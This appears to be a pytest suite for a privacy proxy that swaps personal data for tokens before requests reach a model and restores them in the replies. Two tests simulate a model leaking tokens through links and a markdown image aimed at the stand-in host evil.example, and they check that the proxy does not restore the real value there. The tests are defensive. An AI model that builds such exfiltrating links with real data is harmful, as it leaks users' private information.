"""What is personal goes to the model server as a token and comes back as itself."""

import json

import masking
import pytest
from masking import CHAT, TEXT, chat, route, tokens

MAIL = "jane@example.org"
CARD = "4111 1111 1111 1111"
OTHER = "bob@else.example"
SECRET = "AKIAIOSFODNN7EXAMPLQ"


@pytest.fixture(scope="module")
def world(module_weir):
    made = masking.World(
        module_weir,
        route("mask"),
        route("never", mask={"never_restore": ["keys"]}),
        route("fresh", mask={"scope": "request"}),
        route("block", mask={"unknown_output": "block"}),
        route("told", mask={"unknown_output": "annotate"}),
        route("hosts", mask={"restore_hosts": ["ours.example"]}),
        route("line", mask={"instruct": True}),
        route("words", input={"words": {}}, output={"words": {}}),
        route("far", input={"far": {}}, output={"far": {}}),
    )
    yield made
    made.model.close()


@pytest.fixture(autouse=True)
def reset(world):
    world.says, world.cut, world.finds = "Ok.", lambda text: [text], lambda text: []


def last_text(body):
    return body["messages"][-1]["content"]


def echo(world):
    """The model repeats what it was asked."""
    world.says = last_text


def test_there_and_back(world):
    echo(world)
    answer = world.post("mask", chat(f"Write to {MAIL} or Jane@Example.ORG, pay with {CARD}."))
    raw, sent = world.sent()
    assert MAIL not in raw.lower() and "4111" not in raw
    made = tokens(last_text(sent))
    assert [t.rsplit("_", 1)[0] for t in made] == ["EMAIL_ADDRESS", "EMAIL_ADDRESS", "CREDIT_CARD"]
    assert made[0] == made[1]
    assert last_text(sent) == f"Write to {made[0]} or {made[1]}, pay with {made[2]}."
    body = answer.json()
    assert body["choices"][0]["message"]["content"] == f"Write to {MAIL} or {MAIL}, pay with {CARD}."
    assert answer.headers["x-weir-policy"] == "mask"
    assert answer.headers["x-weir-action"] == "redact"
    found = [r for entry in body["detections"]["input"] for r in entry["results"]]
    assert [(r["detection"], r["start"], r["end"]) for r in found][0] == ("email_address", 9, 25)
    assert "output" not in body["detections"] and "text" not in found[0]


def test_every_cut(world):
    """The same bytes as a whole answer says, however the tokens are cut."""
    echo(world)
    question = chat(f"Write to {MAIL}, {CARD}.")
    wanted = world.text("mask", question)
    assert wanted == f"Write to {MAIL}, {CARD}."
    for n in (1, 2, 3, 5, 7, 11):
        world.cut = lambda text: [text[i : i + n] for i in range(0, len(text), n)]
        assert world.streamed_text("mask", question) == wanted
    made = last_text(world.sent()[1])
    for at in range(len(made) + 1):
        world.cut = lambda text: [text[:at], text[at:]]
        assert world.streamed_text("mask", question) == wanted


def test_channels(world):
    """Reasoning and refusals, streamed and whole; completions."""
    def say(body):
        token = tokens(last_text(body))[0]
        message = {c: f"<{c} {token}>" for c in ("content", "reasoning", "reasoning_content", "refusal")}
        if not body.get("stream"):
            return message
        said = [masking.event({c: piece}) for c, text in message.items() for piece in text]
        return masking.services.events(*said, masking.event({}, "stop"), "[DONE]")

    world.says = say
    body = world.ask("mask", chat(MAIL))
    texts = masking.streams.gather(world.stream("mask", chat(MAIL)))["choices"][0]["texts"]
    for channel in ("content", "reasoning", "reasoning_content", "refusal"):
        assert body["choices"][0]["message"][channel] == f"<{channel} {MAIL}>"
        assert texts[channel] == f"<{channel} {MAIL}>"
    world.says = lambda body: f"Dear {body['prompt']}"
    text = world.ask("mask", {"model": "m", "prompt": MAIL}, path=TEXT)
    assert text["choices"][0]["text"] == f"Dear {MAIL}"
    assert MAIL not in world.sent()[0]


def test_spellings(world):
    ways = [str.lower, str.title, lambda t: t.replace("_", "\\_"), lambda t: t.replace("_", "%5F"),
            lambda t: t.replace("0", "O").replace("1", "l"), lambda t: f"**{t}**", lambda t: f'"{t}"']  # fmt: skip
    for way in ways:
        world.says = lambda body: "A " + way(tokens(last_text(body))[0]) + " b"
        text = world.text("mask", chat(MAIL))
        assert text.strip("A b").strip('*"') == MAIL
        assert world.streamed_text("mask", chat(MAIL)) == text


def test_stable(world):
    """One value, one token: over messages, turns and requests; not over scopes."""
    world.ask("mask", chat(MAIL, {"role": "assistant", "content": f"To {MAIL}."}, f"And {MAIL}?"))
    first = tokens(world.sent()[0])
    assert len(first) == 3 and len(set(first)) == 1
    world.ask("mask", chat(f"Is {MAIL.upper()} right?"))
    assert tokens(world.sent()[0]) == first[:1]
    world.ask("never", chat(MAIL))
    other = tokens(world.sent()[0])
    assert other != first[:1]
    world.ask("fresh", chat(MAIL))
    fresh = tokens(world.sent()[0])
    world.ask("fresh", chat(MAIL))
    assert tokens(world.sent()[0]) != fresh


def test_missed_elsewhere(world):
    """A value that was found once is masked wherever it stands, in its own words."""
    world.finds = lambda text: [] if "my name is Jane Doe" not in text else [
        {"start": text.index("Jane Doe"), "end": text.index("Jane Doe") + 8, "detection": "PERSON",
         "detection_type": "pii", "score": 0.9, "text": "Jane Doe"}]  # fmt: skip
    body = chat({"role": "system", "content": "You help Jane Doe."}, "Hi, my name is Jane Doe.",
                {"role": "assistant", "content": None,
                 "tool_calls": [{"id": "c1", "type": "function",
                                 "function": {"name": "f", "arguments": json.dumps({"who": "Jane Doe"})}}]},
                {"role": "tool", "tool_call_id": "c1", "content": '{"name":"Jane\\u0020Doe"}'},
                "Jane Does? Janet? Jane Doe!", metadata={"who": "Jane Doe"})  # fmt: skip
    echo(world)
    assert world.text("far", body) == "Jane Does? Janet? Jane Doe!"
    raw, sent = world.sent()
    assert raw.count("Jane Doe") == 1 and "Jane Does?" in raw and "Jane\\u0020Doe" not in raw
    assert len(set(tokens(raw))) == 1 and len(tokens(raw)) == 6
    assert tokens(raw)[0].startswith("PERSON_")
    assert json.loads(sent["messages"][3]["content"]) == {"name": tokens(raw)[0]}


def test_foreign_data_is_redacted(world):
    """What the caller did not send is somebody else's."""
    world.says = lambda body: f"Ask {OTHER} or {tokens(last_text(body))[0]}."
    body = world.ask("mask", chat(MAIL))
    assert body["choices"][0]["message"]["content"] == f"Ask [email_address] or {MAIL}."
    assert world.streamed_text("mask", chat(MAIL)) == f"Ask [email_address] or {MAIL}."
    # A value of the caller's that the model knows without its token is not the token's.
    world.says = f"It is {MAIL}."
    assert world.text("mask", chat(MAIL)) == "It is [email_address]."


def test_findings_at_tokens(world):
    """One that lies in a token is none, quotes included; one that reaches beyond takes it along."""
    token = []

    def finds(text):
        if not token or token[0] not in text:
            return []
        start = text.index(token[0])
        return [{"start": start + a, "end": start + len(token[0]) + b, "detection": "x", "detection_type": "y",
                 "score": 0.9, "text": text[start + a : start + len(token[0]) + b]} for a, b in spans]  # fmt: skip

    def say(body):
        token[:] = tokens(last_text(body))
        return f'Say "{token[0]}" now'

    world.says = say
    question = chat("x")
    world.finds = lambda text: [{"start": 0, "end": 1, "detection": "mail", "detection_type": "y",
                                 "score": 0.9, "text": "x"}] if text == "x" else finds(text)  # fmt: skip
    for spans, wanted in [
        ([(0, 0)], 'Say "x" now'), ([(3, -3)], 'Say "x" now'), ([(-1, 1)], 'Say "x" now'),
        ([(0, 1)], 'Say "x" now'), ([(0, 3)], 'Say "[x]ow'), ([(5, 3)], 'Say "[x]ow'),
        ([(-3, -5)], 'Sa[x]" now'), ([(-3, 3)], "Sa[x]ow"), ([(0, 0), (-2, 0)], 'Say[x]" now'),
    ]:  # fmt: skip
        token.clear()
        world.cut = lambda text: [text]
        assert world.text("far", question) == wanted, spans
        world.cut = list
        assert world.streamed_text("far", question) == wanted, spans


def test_unknown_output(world):
    world.says = lambda body: f"{tokens(last_text(body))[0]}, ask {OTHER} now"
    body = world.ask("told", chat(MAIL))
    assert body["choices"][0]["message"]["content"] == f"{MAIL}, ask {OTHER} now"
    result = body["detections"]["output"][0]["results"][0]
    at = len(f"{MAIL}, ask ")
    assert (result["start"], result["end"]) == (at, at + len(OTHER))
    assert world.streamed_text("told", chat(MAIL)) == f"{MAIL}, ask {OTHER} now"
    answer = world.ask("block", chat(MAIL))["choices"][0]
    assert answer["message"]["content"] == "I can't help with that."
    assert answer["finish_reason"] == "content_filter"
    text = world.streamed_text("block", chat(MAIL))
    assert text == f"{MAIL}, ask \n\nI can't help with that."


def test_spans(world):
    """Spans of what was found in the answer count in the text that the caller gets."""
    world.says = lambda body: f"é {tokens(last_text(body))[0]}, ask {OTHER} or {OTHER} now"
    body = world.ask("mask", chat(MAIL))
    text = body["choices"][0]["message"]["content"]
    results = body["detections"]["output"][0]["results"]
    assert [text[r["start"] : r["end"]] for r in results] == ["[email_address]"] * 2
    world.cut = list
    found = world.stream("mask", chat(MAIL))
    spans = [(r["start"], r["end"]) for e in found for entry in e["detections"].get("output", [])
             for r in entry["results"]] if all("detections" in e for e in found) else [
             (r["start"], r["end"]) for e in found for entry in e.get("detections", {}).get("output", [])
             for r in entry["results"]]  # fmt: skip
    assert spans == [(r["start"], r["end"]) for r in results]


def test_never_restored(world):
    world.says = last_text
    text = world.text("never", chat(f"key {SECRET} of {MAIL}"))
    raw, sent = world.sent()
    assert SECRET not in raw
    kept = tokens(last_text(sent))[0]
    assert text == f"key {kept} of {MAIL}"
    assert world.text("mask", chat(f"key {SECRET} of {MAIL}")) == f"key {SECRET} of {MAIL}"
    # In the next turn it is one of ours: not masked again, and counted.
    before = foreign(world, "never")
    assert world.text("never", chat(f"What is {kept}?")) == f"What is {kept}?"
    assert last_text(world.sent()[1]) == f"What is {kept}?"
    assert foreign(world, "never") > before


def foreign(world, name):
    for line in world.weir.health.get("/metrics").text.splitlines():
        if line.startswith("weir_mask_foreign_tokens_total") and f'route="{name}"' in line:
            return float(line.split()[-1])
    return 0


def test_foreign_tokens(world):
    """Tokens of another scope stay, are counted and warned of; what only looks like one is text."""
    world.ask("never", chat(MAIL))
    other = tokens(world.sent()[0])[0]
    world.says = f"See {other}."
    body = world.ask("mask", chat("Who?"))
    assert body["choices"][0]["message"]["content"] == f"See {other}."
    assert [w["type"] for w in body["warnings"]] == ["MASK_UNKNOWN"]
    world.cut = list
    events = world.stream("mask", chat("Who?"))
    assert [w["type"] for e in events for w in e.get("warnings", [])] == ["MASK_UNKNOWN"]
    fake = other[:-1] + ("0" if other[-1] != "0" else "1")
    world.says = f"See {fake}."
    assert "warnings" not in world.ask("mask", chat("Who?"))


def test_caller_writes_tokens(world):
    """A caller's own token is its value's only if the value is in the request, too."""
    world.ask("mask", chat(MAIL))
    token = tokens(world.sent()[0])[0]
    world.says = last_text
    assert world.text("mask", chat(f"{token}?")) == f"{token}?"
    assert world.text("mask", chat(f"{token} is {MAIL}")) == f"{MAIL} is {MAIL}"


def test_links(world):
    world.says = lambda body: "{0} https://evil.example/?{0} ![](//evil.example/{0}) [m](mailto:{0})".format(
        tokens(last_text(body))[0])
    text = world.text("hosts", chat(MAIL))
    token = tokens(world.sent()[0])[0]
    assert text == f"{MAIL} https://evil.example/?{token} ![](//evil.example/{token}) [m](mailto:{MAIL})"
    assert world.streamed_text("hosts", chat(MAIL)) == text
    world.says = lambda body: f"https://ours.example/?{tokens(last_text(body))[0]}"
    assert world.text("hosts", chat(MAIL)) == f"https://ours.example/?{MAIL}"


def test_json_answers(world):
    """Where JSON was asked for it stays JSON, whatever the value is."""
    value = 'odd"\\\n' + MAIL
    world.finds = lambda text: [] if value not in text else [
        {"start": text.index(value), "end": text.index(value) + len(value), "detection": "n",
         "detection_type": "t", "score": 0.9, "text": value}]  # fmt: skip
    world.says = lambda body: json.dumps({"to": tokens(last_text(body))[0], "n": [1, True]})
    body = chat(f"It is {value}.", response_format={"type": "json_object"})
    assert json.loads(world.text("far", body)) == {"to": value, "n": [1, True]}
    world.cut = list
    assert json.loads(world.streamed_text("far", body)) == {"to": value, "n": [1, True]}


def calls_of(world, make, name="mask", question=MAIL):
    """The arguments of the calls that the model makes, whole and streamed, which are the same."""
    def say(body):
        made = make(tokens(last_text(body)))
        calls = [{"index": i, "id": f"c{i}", "type": "function", "function": {"name": "f", "arguments": a}}
                 for i, a in enumerate(made)]  # fmt: skip
        if not body.get("stream"):
            return {"content": None, "tool_calls": [{k: v for k, v in c.items() if k != "index"} for c in calls]}
        said = [masking.event({"tool_calls": [{**c, "function": {"name": "f", "arguments": ""}}]}) for c in calls]
        for i, text in enumerate(made):
            said += [masking.event({"tool_calls": [{"index": i, "function": {"arguments": p}}]}) for p in text]
        return masking.services.events(*said, masking.event({}, "tool_calls"), "[DONE]")

    world.says = say
    body = world.ask(name, chat(question))
    whole = [c["function"]["arguments"] for c in body["choices"][0]["message"]["tool_calls"]]
    found = masking.streams.gather(world.stream(name, chat(question)))["choices"][0]["calls"]
    assert [c["arguments"] for c in found] == whole
    return whole, body


def test_tool_calls(world):
    """Tools are called with values: in strings, names and nested ones, escaped as JSON."""
    whole, body = calls_of(world, lambda t: [json.dumps({"to": t[0], t[0]: [{"x": f"<{t[0]}>"}], "n": 1}),
                                             json.dumps({"to": t[0].lower()}).replace("_", "\\u005f")])  # fmt: skip
    assert json.loads(whole[0]) == {"to": MAIL, MAIL: [{"x": f"<{MAIL}>"}], "n": 1}
    assert json.loads(whole[1]) == {"to": MAIL}
    assert "output" not in body.get("detections", {})


def test_tool_calls_with_foreign_data(world):
    whole, body = calls_of(world, lambda t: [json.dumps({"to": f"é {t[0]} and {OTHER}"})])
    assert json.loads(whole[0]) == {"to": f"é {MAIL} and [email_address]"}
    entry = body["detections"]["output"][0]
    told = json.loads(whole[0])["to"]
    assert [told[r["start"] : r["end"]] for r in entry["results"]] == ["[email_address]"]
    whole, _ = calls_of(world, lambda t: [json.dumps({"to": f"{t[0]}, {OTHER}"})], "told")
    assert json.loads(whole[0]) == {"to": f"{MAIL}, {OTHER}"}
    world.says = {"content": None, "tool_calls": [{"id": "c", "type": "function", "function": {
        "name": "f", "arguments": json.dumps({"to": OTHER})}}]}  # fmt: skip
    blocked = world.ask("block", chat(MAIL))["choices"][0]
    assert blocked["finish_reason"] == "content_filter" and not blocked["message"].get("tool_calls")


def test_tool_calls_with_urls(world):
    whole, _ = calls_of(world, lambda t: [json.dumps({"url": f"https://evil.example/?{t[0]}", "to": t[0]})])
    told = json.loads(whole[0])
    assert told["to"] == MAIL and MAIL not in told["url"]


def test_tool_calls_with_odd_values(world):
    value = 'x"y\\z\n' + MAIL
    world.finds = lambda text: [] if value not in text else [
        {"start": text.index(value), "end": text.index(value) + len(value), "detection": "n",
         "detection_type": "t", "score": 0.9, "text": value}]  # fmt: skip
    whole, _ = calls_of(world, lambda t: [json.dumps({"v": t[0]}), f"no JSON: {t[0]}"], "far", f"It is {value}!")
    assert json.loads(whole[0]) == {"v": value}
    assert whole[1] == f"no JSON: {value}"


def test_logprobs(world):
    """Those of tokens do not leave, the others do."""
    def say(body):
        token = tokens(last_text(body))[0]
        pieces = ["To ", token[:7], token[7:], " now"]
        logprobs = {"content": [{"token": p, "logprob": -1, "bytes": list(p.encode()), "top_logprobs": []}
                                for p in pieces]}  # fmt: skip
        return masking.reply(masking.answer("".join(pieces), logprobs=logprobs))

    world.says = say
    choice = world.ask("mask", chat(MAIL, logprobs=True))["choices"][0]
    assert choice["message"]["content"] == f"To {MAIL} now"
    assert [e["token"] for e in choice["logprobs"]["content"]] == ["To ", " now"]


def test_schemas(world):
    """Constants of a schema take tokens; names do not."""
    tool = {"type": "function", "function": {"name": "f", "parameters": {
        "type": "object", "properties": {"to": {"enum": [MAIL], "const": MAIL, "default": MAIL,
                                                "examples": [MAIL]}}}}}  # fmt: skip
    world.ask("mask", chat("Hi", tools=[tool]))
    raw, _ = world.sent()
    assert MAIL not in raw and len(tokens(raw)) == 4
    tool["function"]["parameters"]["properties"] = {MAIL: {}}
    answer = world.post("mask", chat("Hi", tools=[tool]))
    assert answer.status_code == 422 and MAIL not in answer.text


def test_instruct(world):
    system = {"role": "system", "content": "Be kind."}
    world.ask("line", chat(system, "Hi"))
    first = world.sent()[1]["messages"][0]["content"]
    assert first.startswith("Be kind.\n") and "EMAIL_ADDRESS_" in first
    world.ask("line", chat({"role": "system", "content": f"For {MAIL}."}, "Hi"))
    second = world.sent()[1]["messages"][0]["content"]
    assert second.startswith("For EMAIL_ADDRESS_") and second.endswith(first[len("Be kind.") :])
    world.ask("line", chat("Hi"))
    assert world.sent()[1]["messages"] == [{"role": "user", "content": "Hi"}]


def test_nothing_is_kept(world):
    """No log line and no metric tells a value or a token."""
    world.says = last_text
    world.ask("mask", chat(f"{MAIL} {CARD}"))
    token = tokens(world.sent()[0])[0]
    kept = world.weir.stderr() + world.weir.health.get("/metrics").text
    assert MAIL not in kept and CARD not in kept and token not in kept


def test_keys_have_their_own(module_weir):
    keys = [{"name": "a", "env": "TEAM_A", "routes": ["*"]}, {"name": "b", "env": "TEAM_B", "routes": ["*"]}]
    world = masking.World(module_weir, route("key", mask={"scope": "key"}), auth={"keys": keys})
    seen = []
    for key in ("secret-a", "secret-b", "secret-a"):
        world.ask("key", chat(MAIL), authorization=f"Bearer {key}")
        seen.append(tokens(world.sent()[0]))
    assert seen[0] == seen[2] != seen[1]
    world.model.close()


def test_the_playground_is_told_of_tokens(module_weir):
    """The page shows what the model received: which token stands where, and no value."""
    world = masking.World(module_weir, route("mask"), playground=True)
    world.says = last_text
    question = {**chat(f"é {MAIL}", {"role": "assistant", "content": "?"}, f"{CARD} of {MAIL}"), "stream": True}
    answer = world.post("mask", question, **{"x-weir-trace": "1"})
    notes = [json.loads(block.split("data: ", 1)[1]) for block in answer.text.split("\n\n")
             if block.startswith("event: weir-trace")]  # fmt: skip
    told = [(n["message"], n["start"], n["end"], n["token"]) for n in notes if n["kind"] == "token"]
    mail, card = tokens(world.sent()[1]["messages"][0])[0], tokens(last_text(world.sent()[1]))[0]
    assert told == [(0, 2, 2 + len(MAIL), mail), (2, 0, len(CARD), card),
                    (2, len(CARD) + 4, len(CARD) + 4 + len(MAIL), mail)]  # fmt: skip
    assert MAIL not in "".join(b for b in answer.text.split("\n\n") if b.startswith("event: weir-trace"))
    world.model.close()
